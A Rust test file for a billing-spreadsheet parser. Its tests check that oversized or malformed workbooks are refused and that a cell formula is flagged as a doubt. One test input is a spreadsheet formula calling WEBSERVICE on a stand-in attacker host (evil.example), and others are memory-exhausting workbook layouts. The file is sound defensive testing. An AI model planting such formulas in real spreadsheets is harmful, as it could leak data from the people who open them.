use super::books::{HEAD, book, old_book, text_row};
use super::*;
use rust_decimal::dec;

#[test]
fn a_workbook_is_read_as_it_shows_and_its_formulas_are_a_doubt() {
    let good = [
        text_row(1, &HEAD),
        text_row(
            2,
            &["A-1", "3", "449.99999999999994", "400", "Vague", "Approved"],
        ),
    ]
    .concat();
    for portal in ["CounselLink", "Brightflag"] {
        let heard = hear(Some(portal), "charges.xlsx", &book(&good));
        assert_eq!(outcomes(&heard), [("A-1", Outcome::Reduced)], "{heard:?}");
        let told = &heard.told[0];
        assert_eq!(
            (told.report.reductions[0].amount, told.doubts.len()),
            (dec!(50), 0)
        );
        assert!(
            told.place.contains("charges.xlsx, sheet Charges, row 2"),
            "{}",
            told.place
        );
    }
    let bad = [
        text_row(1, &HEAD),
        text_row(
            2,
            &[
                "A-1",
                "3",
                "450",
                "=WEBSERVICE(&quot;http://evil.example&quot;)",
                "Vague",
                "Approved",
            ],
        ),
    ]
    .concat();
    let heard = hear(Some("CounselLink"), "charges.xlsx", &book(&bad));
    assert!(
        heard.told[0].doubts[0].contains("column Approved Amount: a formula stands there"),
        "{heard:?}"
    );
}

#[test]
fn a_workbook_that_would_fill_the_memory_is_refused_with_its_measure() {
    // A single cell at the far end lays out thousands of millions.
    let far = "<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>";
    let heard = hear(Some("CounselLink"), "far.xlsx", &book(far));
    assert!(
        heard.mistakes[0].to_string().contains("row 1048576"),
        "{heard:?}"
    );
    let many =
        (1..=10_000).map(|r| format!("<row r=\"{r}\">{}</row>", "<c><v>1</v></c>".repeat(1000)));
    let heard = hear(
        Some("CounselLink"),
        "ten-million.xlsx",
        &book(&many.collect::<String>()),
    );
    assert!(
        heard.told.is_empty() && heard.mistakes[0].to_string().contains("at most"),
        "{heard:?}"
    );
    for bytes in [
        &b"PK\x03\x04nothing"[..],
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1nothing",
    ] {
        let heard = hear(None, "x.xlsx", bytes);
        assert!(
            heard.mistakes[0].to_string().contains("save it anew"),
            "{heard:?}"
        );
    }
    let heard = hear(None, "x.xls", b"<table><tr><td>A-1</td></tr></table>");
    assert!(
        heard.mistakes[0]
            .to_string()
            .contains("save it as .xlsx or CSV"),
        "{heard:?}"
    );
}

#[test]
fn an_old_workbook_is_measured_before_it_is_read() {
    let mut cells: Vec<(u16, u16, &str)> = HEAD.iter().zip(0..).map(|(h, n)| (0, n, *h)).collect();
    cells.extend(
        ["A-1", "3", "450.00", "400.00", "Vague", "Approved"]
            .iter()
            .zip(0..)
            .map(|(t, n)| (1, n, *t)),
    );
    let heard = hear(Some("CounselLink"), "charges.xls", &old_book(&cells));
    assert_eq!(outcomes(&heard), [("A-1", Outcome::Reduced)], "{heard:?}");
    cells.push((65_535, 65_000, "x"));
    let heard = hear(Some("CounselLink"), "charges.xls", &old_book(&cells));
    assert!(
        heard.mistakes[0]
            .to_string()
            .contains("cells between the first and the last"),
        "{heard:?}"
    );
}
